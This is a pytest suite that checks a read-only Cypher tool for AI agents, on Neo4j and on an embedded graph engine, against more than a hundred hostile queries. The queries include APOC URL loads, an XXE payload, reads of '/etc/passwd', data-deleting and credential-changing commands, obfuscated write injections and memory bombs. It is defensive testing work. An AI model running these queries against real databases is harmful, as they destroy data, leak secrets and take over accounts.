"""Hostile Cypher against the agents' read-only tool: on a real Neo4j and on the embedded engine,
called directly (`run_read_cypher`) and through the MCP server (a real MCP client over stdio).

Every query is refused, or cut by the row limit, or stopped by the timeout; none writes: a checksum
of the graph (counts, keys, every model property, embeddings, schema and tokens) is the same after
all of them. The figures are printed (`pytest -s`) for the README.
"""

from __future__ import annotations

import asyncio
import hashlib
import http.server
import json
import threading
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest

from contextgraph.errors import CypherError, QueryNotAllowedError, QueryStoppedError
from contextgraph.model import EDGE_TYPES, NODE_TYPES
from contextgraph.retrieval.precedents import read_cypher
from contextgraph.store import GraphStore
from contextgraph.store.base import EDGE_COLUMNS, NODE_COLUMNS
from contextgraph.tools.agent import run_read_cypher

from . import cases as c
from .builders import FULL_LANE
from .mcp_client import error_text, mcp_session, payload, server_env

TIMEOUT = 1.0
ROW_LIMIT = 100

REFUSE, LIMIT, TIMEOUT_CUT = "refused", "cut by row limit", "cut by timeout"
GATE, PLANNER = "refused by the gate", "rejected by the engine's planner"
CUT_OR_STOPPED = "cut by the row limit or stopped by the timeout"

# What an agent could use to read or write outside the graph on a server with APOC, to list other
# sessions or settings, or to run Cypher from strings. `{url}` is a local HTTP server that counts
# the requests it gets: it must get none. Sent to both stores (the embedded one has no APOC).
OUTSIDE = [
    "CALL apoc.load.json('{url}/a.json') YIELD value RETURN value",
    'CALL apoc.load.json("{url}/b.json") YIELD value RETURN value',
    "CALL `apoc`.`load`.`json`('{url}/c.json') YIELD value RETURN value",
    "CALL apoc . load . json('{url}/d.json') YIELD value RETURN value",
    "CALL apoc.load.jsonParams('{url}/e.json', {{}}, null) YIELD value RETURN value",
    "CALL apoc.load.jsonArray('{url}/f.json') YIELD value RETURN value",
    "CALL apoc.load.xml('{url}/g.xml') YIELD value RETURN value",
    "MATCH (d:Decision) WITH d LIMIT 1 CALL apoc.load.json('{url}/h?k=' + d.key) YIELD value RETURN value",
    "CALL () {{ CALL apoc.load.json('{url}/i.json') YIELD value RETURN value }} RETURN value",
    "WITH '{url}/j.json' AS u CALL apoc.load.json(u) YIELD value RETURN value",
    "CALL apoc.load.json($url) YIELD value RETURN value",
    "CALL apoc.load.json('file:///etc/passwd') YIELD value RETURN value",
    "/* apoc */ CALL apoc.load.xml('{url}/k.xml', '', {{}}, false) YIELD value RETURN value",
    "RETURN apoc.xml.parse('<!DOCTYPE a [<!ENTITY x SYSTEM \"{url}/xxe\">]><a>&x;</a>') AS x",
    "RETURN apoc.data.url('{url}/l') AS u",
    "CALL apoc.import.json('{url}/m.json')",
    "CALL apoc.import.csv([{{fileName: '{url}/n.csv', labels: ['Hacked']}}], [], {{}})",
    "CALL apoc.import.graphml('{url}/o.graphml', {{}})",
    "CALL apoc.import.xml('{url}/p.xml', {{}})",
    "CALL apoc.export.csv.all('/tmp/contextgraph-export.csv', {{}})",
    "CALL apoc.export.json.all('/tmp/contextgraph-export.json', {{}})",
    "CALL apoc.export.cypher.all('/tmp/contextgraph-export.cypher', {{}})",
    "CALL apoc.export.graphml.all('/tmp/contextgraph-export.graphml', {{}})",
    "CALL apoc.export.csv.all(null, {{stream: true}}) YIELD data RETURN data",
    "CALL apoc.export.json.query('MATCH (d:Decision) RETURN d', null, {{stream: true}}) YIELD data",
    "CALL apoc.export.cypher.all(null, {{streamStatements: true}}) YIELD cypherStatements AS s RETURN s",
    "CALL apoc.export.arrow.stream.all() YIELD value RETURN value",
    "CALL apoc.cypher.run('MATCH (d:Decision) DETACH DELETE d', {{}}) YIELD value RETURN value",
    "CALL apoc.cypher.runMany('MATCH (d:Decision) DETACH DELETE d;', {{}})",
    "CALL apoc.cypher.runManyReadOnly('MATCH (d:Decision) RETURN d;', {{}})",
    "CALL apoc.cypher.doIt('MATCH (d:Decision) DETACH DELETE d', {{}}) YIELD value RETURN value",
    "CALL apoc.cypher.runTimeboxed('MATCH (n) RETURN n', {{}}, 1000) YIELD value RETURN value",
    "RETURN apoc.cypher.runFirstColumnSingle('MATCH (d:Decision) RETURN count(d)', {{}}) AS n",
    "CALL apoc.periodic.iterate('MATCH (d:Decision) RETURN d', 'DETACH DELETE d', {{batchSize: 10}})",
    "CALL apoc.periodic.commit('MATCH (d:Decision) WITH d LIMIT 10 DETACH DELETE d RETURN count(*)', {{}})",
    "CALL apoc.periodic.submit('x', 'MATCH (d:Decision) DETACH DELETE d')",
    "CALL apoc.periodic.repeat('x', 'MATCH (d:Decision) DETACH DELETE d', 1)",
    "CALL apoc.periodic.list()",
    "CALL apoc.trigger.add('t', 'MATCH (d:Decision) DETACH DELETE d', {{phase: 'after'}})",
    "CALL apoc.trigger.install('neo4j', 't', 'RETURN 1', {{}})",
    "CALL apoc.trigger.list()",
    "CALL apoc.util.sleep(60000)",
    "MATCH (d:Decision) CALL apoc.util.sleep(1000) RETURN d.key",
    "CALL apoc.util.validate(true, 'x', [])",
    "CALL apoc.log.stream('debug.log')",
    "CALL apoc.merge.node(['Hacked'], {{k: 1}})",
    "CALL apoc.refactor.rename.label('Decision', 'Hacked')",
    "CALL apoc.schema.assert({{}}, {{}})",
    "CALL apoc.meta.data()",
    "CALL apoc.warmup.run()",
    # administration, listing, other databases
    "SHOW TRANSACTIONS",
    "SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery",
    "SHOW SETTINGS",
    "SHOW SETTINGS YIELD name, value WHERE name CONTAINS 'password' RETURN name, value",
    "SHOW PROCEDURES",
    "SHOW FUNCTIONS",
    "SHOW USERS",
    "SHOW DATABASES",
    "SHOW INDEXES",
    "SHOW CONSTRAINTS",
    "SHOW CURRENT USER",
    "SHOW PRIVILEGES",
    "SHOW SERVERS",
    "show transactions",
    "CYPHER runtime=slotted SHOW TRANSACTIONS",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "CALL dbms.listConfig()",
    "CALL dbms.listConnections()",
    "CALL dbms.components()",
    "CALL dbms.info()",
    "CALL dbms.queryJmx('*:*')",
    "CALL dbms.showCurrentUser()",
    "CALL db.info()",
    "CALL db.stats.retrieve('GRAPH COUNTS')",
    "CALL tx.setMetaData({{a: 1}})",
    "USE system SHOW USERS",
    "USE system MATCH (n) RETURN n",
    "USE other MATCH (n) RETURN count(n)",
    "CALL () {{ USE system MATCH (n) RETURN n }} RETURN n",
    "LOAD CSV FROM '{url}/q.csv' AS row RETURN row",
    "LOAD CSV WITH HEADERS FROM '{url}/r.csv' AS row RETURN count(row)",
    "CALL () {{ LOAD CSV FROM '{url}/s.csv' AS r RETURN r }} RETURN r",
]

# The same hostile intent in both dialects (where the syntax exists in one only, it is still sent
# to the other: it must be refused there too).
COMMON = [
    "CREATE (:Decision {key: 'x'})",
    "MERGE (d:Decision {key: 'x'}) RETURN d",
    "MATCH (d:Decision) SET d.reason = 'hacked' RETURN count(d)",
    "MATCH (d:Decision) WITH d LIMIT 1 SET d.reason = NULL",
    "MATCH (d:Decision) SET d += {reason: 'hacked'}",
    "MATCH (d:Decision) SET d:Hacked",
    "MATCH (d:Decision) DELETE d",
    "MATCH (d:Decision) DETACH DELETE d",
    "MATCH (:Decision)-[r:CHOSE]->(:Option) DELETE r",
    "MATCH (d:Decision) REMOVE d.reason RETURN d.key",
    "MATCH (d:Decision) REMOVE d:Decision",
    "MATCH (a:Decision), (b:Decision) WHERE a.key < b.key WITH a, b LIMIT 1 CREATE (a)-[:INFORMED_BY]->(b)",
    "UNWIND range(1, 3) AS i CREATE (:Decision {key: toString(i)})",
    "FOREACH (i IN range(1, 3) | CREATE (:Decision {key: toString(i)}))",
    "MATCH (d:Decision) WITH collect(d) AS ds UNWIND ds AS d DETACH DELETE d",
    "MATCH (d:Decision) RETURN d.key AS k; CREATE (:Decision {key: 'y'})",
    "CREATE (:Decision {key: 'y'}); MATCH (d:Decision) RETURN count(d)",
    "MATCH (n:Decision) RETURN count(n);MATCH (n:Decision) DETACH DELETE n",
    "MATCH (d:Decision) RETURN d.key;\n\n  DROP TABLE DecisionEmbedding",
    "/* read only, promise */ MATCH (d:Decision) DETACH DELETE d",
    "// just a read\nMATCH (d:Decision) SET d.reason = 'hacked'",
    "MATCH (d:Decision) // RETURN d\nDETACH DELETE d",
    "MATCH (d:Decision) /* RETURN d */ DETACH DELETE d",
    "match (d:Decision) detach delete d",
    "MaTcH (d:Decision) SeT d.reason = 'hacked'",
    "\uff23\uff32\uff25\uff21\uff34\uff25 (:Decision {key: 'fullwidth'})",  # fullwidth CREATE
    "MATCH (d:Decision) \uff24\uff25\uff2c\uff25\uff34\uff25 d",  # fullwidth DELETE
    "CRE\u200bATE (:Decision {key: 'zero-width'})",
    "MATCH (d:Decision) DETACH\u200b DELETE d",
    "MATCH (d:Decision) DETACH\u00a0DELETE d",
    "\ufeffMATCH (d:Decision) DETACH DELETE d",
    "MATCH (d:`Decision`) SET d.`reason` = 'backticks'",
    "MATCH (d:Decision) SET d.reason = $reason",
    "CALL { CREATE (:Decision {key: 'sub'}) } RETURN 1 AS one",
    "CALL () { CREATE (:Decision {key: 'sub'}) } RETURN 1 AS one",
    "MATCH (d:Decision) CALL { WITH d SET d.reason = 'sub' } RETURN count(*) AS n",
    "WITH 1 AS x CALL { CREATE (:Decision {key: 'q'}) RETURN 1 AS y } RETURN x, y",
    "MATCH (d:Decision) CALL { WITH d DETACH DELETE d } IN TRANSACTIONS OF 10 ROWS",
    "USING PERIODIC COMMIT 10 LOAD CSV FROM 'file:///etc/passwd' AS row CREATE (:Decision {key: row[0]})",
    "LOAD CSV FROM 'file:///etc/passwd' AS row CREATE (:Decision {key: row[0]})",
    "EXPLAIN MATCH (d:Decision) DETACH DELETE d",
    "PROFILE MATCH (d:Decision) DETACH DELETE d",
    "CREATE INDEX hacked IF NOT EXISTS FOR (n:Decision) ON (n.reason)",
    "DROP INDEX decision_embedding",
    "CREATE CONSTRAINT hacked IF NOT EXISTS FOR (n:Hacked) REQUIRE n.k IS UNIQUE",
    "CALL apoc.create.node(['Hacked'], {})",
]

NEO4J = [
    "CALL db.createLabel('Hacked')",
    "CALL db.createProperty('hacked')",
    "CALL db.createRelationshipType('HACKED')",
    "MATCH (d:Decision) WITH d LIMIT 1 CALL db.create.setNodeVectorProperty(d, 'embedding', [1.0, 2.0])",
    "CALL db.index.fulltext.createNodeIndex('hacked', ['Decision'], ['reason'])",
    "CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')",
    "CALL dbms.security.createUser('eve', 'secret', false)",
    "CALL dbms.killQueries(['query-1'])",
    "CALL db.clearQueryCaches()",
    "CREATE DATABASE hacked",
    "STOP DATABASE neo4j",
    "ALTER USER neo4j SET PASSWORD 'hacked'",
    "CREATE USER eve SET PASSWORD 'secret'",
    "DROP CONSTRAINT decision_key IF EXISTS",
    "CYPHER runtime=slotted MATCH (d:Decision) DETACH DELETE d",
    "LOAD CSV FROM 'http://127.0.0.1:9/x.csv' AS row RETURN row",
    "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row",
]

EMBEDDED = [
    "CALL threads=1",
    "CREATE NODE TABLE Hacked(k STRING PRIMARY KEY)",
    "CREATE REL TABLE HACKED(FROM Decision TO Decision)",
    "DROP TABLE DecisionEmbedding",
    "ALTER TABLE Decision ADD hacked STRING",
    "ALTER TABLE Decision DROP reason",
    "ALTER TABLE Decision RENAME TO Hacked",
    "COPY Decision FROM '/etc/passwd'",
    "COPY (MATCH (d:Decision) RETURN d.key, d.reason) TO '/tmp/contextgraph-leak.csv'",
    "LOAD FROM '/etc/passwd' (header=false) RETURN *",
    "LOAD WITH HEADERS (k STRING) FROM '/etc/passwd' RETURN *",
    "INSTALL fts",
    "LOAD EXTENSION fts",
    "ATTACH '/tmp/contextgraph-other.lbdb' AS other (dbtype lbug)",
    "EXPORT DATABASE '/tmp/contextgraph-dump'",
    "IMPORT DATABASE '/tmp/contextgraph-dump'",
    "CREATE MACRO hacked(x) AS x + 1",
    "CHECKPOINT",
    "BEGIN TRANSACTION",
    "CALL create_fts_index('Decision', 'hacked', ['reason'])",
    "CREATE SEQUENCE hacked",
    "MATCH (d:Decision) WITH d LIMIT 1 SET d.embedding_model = 'x'",
]

# Memory and time bombs: cut by the row limit, or stopped by the timeout or the per-transaction
# memory limit — never left running.
CUT = [
    (LIMIT, "UNWIND range(1, 1000000) AS i RETURN i"),
    (LIMIT, "MATCH (a:Decision), (b:Decision), (c:Decision) RETURN a.key, b.key, c.key"),
    (LIMIT, "MATCH (d:Decision), (o:Option) RETURN d.search_text AS text, o.name AS option"),
    # Neo4j streams the range (cut by the row limit); Ladybug builds it first (stopped at the timeout).
    (CUT_OR_STOPPED, "UNWIND range(1, 10000000) AS i RETURN i * i AS sq"),
    (
        TIMEOUT_CUT,
        "MATCH (a:Decision), (b:Decision), (c:Decision), (d:Decision), (e:Decision) "
        "WHERE (a.search_text + b.search_text + c.search_text + d.search_text + e.search_text) "
        "CONTAINS 'zzzz' RETURN count(*) AS n",
    ),
    (
        TIMEOUT_CUT,
        "MATCH (a:Decision), (b:Decision), (c:Decision), (d:Decision), (e:Option), (f:Option) "
        "RETURN count(*) AS n, max(a.search_text + b.search_text + c.key + d.key + e.name + f.name) AS m",
    ),
    (
        TIMEOUT_CUT,
        "MATCH (a:Decision), (b:Decision), (c:Decision), (d:Decision) "
        "RETURN collect(a.search_text + b.search_text + c.search_text + d.search_text) AS bomb",
    ),
    (
        TIMEOUT_CUT,
        "MATCH (a:Decision), (b:Decision), (c:Decision), (d:Decision) "
        "WITH a.body + b.body + c.body + d.body AS t RETURN count(DISTINCT t) AS n",
    ),
]


def hostile(dialect: str, url: str) -> list[tuple[str, str]]:
    extra = NEO4J if dialect == "neo4j" else EMBEDDED
    outside = [q.format(url=url) for q in OUTSIDE]
    return [(REFUSE, q) for q in COMMON + extra + outside] + CUT


def sample(queries: list[tuple[str, str]], every: int = 5) -> list[tuple[str, str]]:
    """The fast lane's share: every `every`-th query, and the first of each expected outcome."""
    firsts = {want: q for want, q in reversed(queries)}
    return [(want, q) for i, (want, q) in enumerate(queries) if i % every == 0 or firsts[want] == q]


def checksum(store: GraphStore) -> str:
    """Counts, keys, every model property of every node and edge, embeddings, schema and tokens."""
    parts: list[Any] = [store.stats()]
    for node_type in NODE_TYPES:
        columns = ", ".join(f"n.`{name}` AS `{name}`" for name in NODE_COLUMNS[node_type])
        parts.append(store.query(f"MATCH (n:{node_type.label}) RETURN n.key AS key, {columns} ORDER BY key"))
    for edge_type in EDGE_TYPES:
        columns = "".join(f", r.`{name}` AS `{name}`" for name in EDGE_COLUMNS[edge_type])
        parts.append(
            store.query(
                f"MATCH (a:{edge_type.source.label})-[r:{edge_type.rel_type}]->(b:{edge_type.target.label}) "
                f"RETURN a.key AS src, b.key AS dst{columns} ORDER BY src, dst"
            )
        )
    if store.dialect == "neo4j":
        parts.append(store.query("MATCH (n) RETURN count(n) AS n"))
        parts.append(store.query("MATCH (d:Decision) RETURN d.key AS k, d.embedding AS e ORDER BY k"))
        parts.append(store.query("SHOW INDEXES YIELD name, state RETURN name ORDER BY name"))
        parts.append(store.query("SHOW CONSTRAINTS YIELD name RETURN name ORDER BY name"))
        for call in ("db.labels() YIELD label", "db.relationshipTypes() YIELD relationshipType"):
            parts.append(store.query(f"CALL {call} RETURN *"))
        parts.append(store.query("CALL db.propertyKeys() YIELD propertyKey RETURN propertyKey ORDER BY 1"))
    else:
        parts.append(store.query("CALL show_tables() RETURN * ORDER BY name"))
        parts.append(
            store.query("MATCH (e:DecisionEmbedding) RETURN e.key AS k, e.embedding AS v ORDER BY k")
        )
        parts.append(store.query("CALL show_functions() RETURN count(*) AS n"))
    text = json.dumps(parts, sort_keys=True, default=str)
    return hashlib.blake2b(text.encode(), digest_size=16).hexdigest()


def _direct(store: GraphStore, query: str, url: str) -> str:
    """What happened: refused by the gate, rejected by the planner (nothing ran), cut, stopped;
    anything else (it ran, or failed while running) is returned as is and fails the test."""
    try:
        result = run_read_cypher(
            store,
            query,
            {"reason": "hacked", "url": f"{url}/param.json"},
            timeout=TIMEOUT,
            row_limit=ROW_LIMIT,
            max_chars=10**9,
        )
    except QueryNotAllowedError:
        return GATE
    except CypherError as exc:
        return PLANNER if exc.stage == "plan" else f"FAILED WHILE RUNNING: {exc}"
    except QueryStoppedError:
        return TIMEOUT_CUT
    if result.truncated and result.row_count == ROW_LIMIT:
        return LIMIT
    return f"RAN ({result.row_count} rows)"


def _expected(want: str, got: str) -> bool:
    if want == REFUSE:
        return got in (GATE, PLANNER, REFUSE)
    if want == CUT_OR_STOPPED:
        return got in (LIMIT, TIMEOUT_CUT)
    return got == want


async def _through_mcp(env: dict[str, str], queries: list[str]) -> list[str]:
    outcomes = []
    args = ("--timeout", str(TIMEOUT), "--row-limit", str(ROW_LIMIT))
    async with mcp_session(env, *args) as session:
        for query in queries:
            params = {"reason": "hacked", "url": "http://127.0.0.1:9/param.json"}
            result = await session.call_tool("read_cypher", {"query": query, "params": params})
            if result.is_error:
                text = error_text(result)
                stopped = "longer than" in text or "more memory" in text
                outcomes.append(TIMEOUT_CUT if stopped else REFUSE)
                continue
            data = payload(result)
            outcomes.append(LIMIT if data["truncated"] and data["row_count"] == ROW_LIMIT else "RAN")
    return outcomes


def _figures(label: str, outcomes: list[str]) -> str:
    counts = Counter(outcomes)
    refused = counts[GATE] + counts[PLANNER] + counts[REFUSE]
    detail = (
        f" ({counts[GATE]} by the gate, {counts[PLANNER]} by the engine's planner)" if counts[GATE] else ""
    )
    return (
        f"{label}: {len(outcomes)} hostile queries tried — {refused} refused before running{detail}, "
        f"{counts[LIMIT]} cut by the row limit, {counts[TIMEOUT_CUT]} stopped by the timeout or memory limit"
    )


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(b'{"pwned": true}')

    do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def recorder() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server on 127.0.0.1 that records every request it gets."""
    hits: list[str] = []
    handler = type("Recorder", (_Recorder,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()
    server.server_close()


EXPORTS = [Path(f"/tmp/contextgraph-export.{ext}") for ext in ("csv", "json", "cypher", "graphml")]


def test_hostile_cypher_never_runs(
    store: GraphStore, request: pytest.FixtureRequest, recorder: tuple[str, list[str]]
) -> None:
    url, hits = recorder
    for path in EXPORTS:
        path.unlink(missing_ok=True)
    batch, _ = c.build_batch()
    store.write(batch)
    store.ensure_schema()
    before = checksum(store)
    queries = hostile(store.dialect, url)
    assert len(queries) >= 100
    if not FULL_LANE and store.dialect == "embedded":  # CI tries them all (each opens the file)
        queries = sample(queries, every=10)

    started = time.monotonic()
    direct = [_direct(store, q, url) for _, q in queries]
    seconds = time.monotonic() - started
    wrong = [
        (q, want, got) for (want, q), got in zip(queries, direct, strict=True) if not _expected(want, got)
    ]
    assert not wrong, wrong
    if store.dialect == "neo4j":  # with APOC loaded: the gate itself refuses every APOC call and SHOW
        gate_only = [q.format(url=url) for q in OUTSIDE if "apoc." in q or q.upper().startswith("SHOW")]
        by_query = dict(zip([q for _, q in queries], direct, strict=True))
        assert [q for q in gate_only if by_query[q] != GATE] == []
        assert (
            store.query("SHOW PROCEDURES YIELD name WHERE name STARTS WITH 'apoc.load' RETURN count(*) AS n")[
                0
            ]["n"]
            >= 3
        ), "the test server must have APOC loaded"
    assert hits == [], "a hostile query reached the URL"
    assert not any(path.exists() for path in EXPORTS)
    assert checksum(store) == before

    settings = request.getfixturevalue("neo4j_settings") if store.dialect == "neo4j" else None
    if store.dialect == "embedded":
        store.close()  # the MCP server opens the file itself (read-only for read_cypher)
    via_mcp = asyncio.run(_through_mcp(server_env(store, settings), [q for _, q in queries]))
    pairs = zip(queries, via_mcp, strict=True)
    wrong = [(q, want, got) for (want, q), got in pairs if not _expected(want, got)]
    assert not wrong, wrong
    assert hits == []
    assert checksum(store) == before

    print()
    print(_figures(f"{store.dialect}, read_cypher", direct) + f" ({seconds:.1f} s in all)")
    print(_figures(f"{store.dialect}, MCP read_cypher", via_mcp))


@pytest.mark.parametrize(
    "query",
    [
        "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row",
        "LOAD CSV WITH HEADERS FROM 'http://127.0.0.1:9/x.csv' AS row RETURN count(row)",
        "CALL { LOAD CSV FROM 'file:///etc/hostname' AS r RETURN r } RETURN r",
    ],
)
def test_the_cli_cypher_path_refuses_file_and_url_reads(neo4j_store: GraphStore, query: str) -> None:
    """`contextgraph cypher` (retrieval.read_cypher): Neo4j calls LOAD CSV a read; it is refused."""
    with pytest.raises(QueryNotAllowedError, match=r"may not load files or URLs|not on the read-only"):
        read_cypher(neo4j_store, query)


# One expression that builds a huge list or string. Ladybug folds it while binding (EXPLAIN runs
# it too), checks its timeout only between chunks of rows, and keeps lists outside its buffer
# pool: in-process, `size(range(1, 2000000000))` ran 215 s past a 2 s timeout and took 17 GB.
BOMBS = [
    "RETURN size(range(1, 400000000)) AS n",  # ~3 GB of integers in one value
    "UNWIND range(1, 5) AS i RETURN size(range(1, 300000000 + i)) AS n",  # not a constant
    "RETURN size(list_transform(range(1, 40000), x -> range(1, 40000))) AS n",  # nested: 1.6e9
    "RETURN size(repeat('x', 300000000)) AS n",
    "MATCH (d:Decision) WITH d LIMIT 1 RETURN size(lpad(d.key, 300000000, 'x')) AS n",
]


@pytest.mark.parametrize("query", BOMBS if FULL_LANE else BOMBS[::2])  # CI tries every bomb
def test_one_expression_bomb_is_stopped_on_the_embedded_store(embedded_store: GraphStore, query: str) -> None:
    """Stopped at the timeout or the memory cap, in a worker process: the caller's memory stays
    flat, the wall time is the timeout plus the grace, and the next query gets its answer."""
    import resource

    batch, _ = c.build_batch()
    embedded_store.write(batch)
    run_read_cypher(embedded_store, "RETURN 1 AS one", timeout=TIMEOUT)  # the worker has started
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    with pytest.raises(QueryStoppedError, match=r"longer than 1 s|needed more than \d+ MB"):
        run_read_cypher(embedded_store, query, timeout=TIMEOUT, row_limit=ROW_LIMIT)
    seconds = time.monotonic() - started
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) / 1024
    assert seconds < TIMEOUT + 8, f"stopped only after {seconds:.1f} s"
    assert grown_mb < 200, f"the caller's memory grew by {grown_mb:.0f} MB"
    n = run_read_cypher(embedded_store, "MATCH (d:Decision) RETURN count(d) AS n").rows[0]["n"]
    assert n == len({x.key for x in batch.nodes if type(x).__name__ == "Decision"})


# APOC functions whose result's size is a number argument (or grows combinatorially): APOC builds it
# on the server's heap, outside the per-transaction memory limit and the timeout. The first one made
# the test server unreachable for minutes; each is refused by the gate, so the server never sees it.
AMPLIFIERS = [
    "RETURN size(apoc.coll.combinations(range(1, 40), 20)) AS n",
    "RETURN size(`apoc`.`coll`.`combinations`(range(1, 40), 20)) AS n",
    "MATCH (d:Decision) WITH collect(d.key) AS ks RETURN size(apoc.coll.combinations(ks, 1, size(ks))) AS n",
    "RETURN size(apoc.coll.fill('x', 2000000000)) AS n",
    "RETURN size(APOC.COLL.FILL('x', 2000000000)) AS n",
    "RETURN size(apoc.coll.randomItems([1], 2000000000, true)) AS n",
    "RETURN size(apoc.text.repeat('x', 1500000000)) AS n",
    "RETURN size(apoc.text.lpad('x', 2000000000, ' ')) AS n",
    "RETURN size(apoc.text.rpad('x', 2000000000, ' ')) AS n",
    "RETURN size(apoc.text.format('%2000000000d', [1])) AS n",
    "RETURN size(apoc.text.random(2000000000, 'a')) AS n",
    "CALL () { RETURN apoc.text.repeat('x', 1500000000) AS s } RETURN size(s) AS n",
]


def test_apoc_functions_that_build_unbounded_results_are_refused(neo4j_store: GraphStore) -> None:
    """Refused by the gate with the reason; the server still answers; pure APOC still runs."""
    batch, _ = c.build_batch()
    neo4j_store.write(batch)
    for query in AMPLIFIERS:
        with pytest.raises(QueryNotAllowedError, match=r"refused: the size of what it builds is set by"):
            run_read_cypher(neo4j_store, query, timeout=TIMEOUT)
    rows = run_read_cypher(
        neo4j_store,
        "MATCH (d:Decision)-[:CHOSE]->(o:Option) "
        "RETURN apoc.coll.frequencies(collect(o.name)) AS f, apoc.text.join(['a', 'b'], '-') AS j",
    ).rows
    assert rows[0]["j"] == "a-b"
    assert (
        sum(f["count"] for f in rows[0]["f"])
        == neo4j_store.query("MATCH (:Decision)-[:CHOSE]->(:Option) RETURN count(*) AS n")[0]["n"]
    )


@pytest.mark.parametrize(
    "command", [":param limit => 5", ":params {limit: 5}", "  :use system", ":play movies"]
)
def test_a_browser_command_gets_one_line_saying_what_it_is(store: GraphStore, command: str) -> None:
    with pytest.raises(CypherError, match=r"is a Neo4j Browser command, not Cypher — send the query alone"):
        run_read_cypher(store, command, timeout=TIMEOUT)
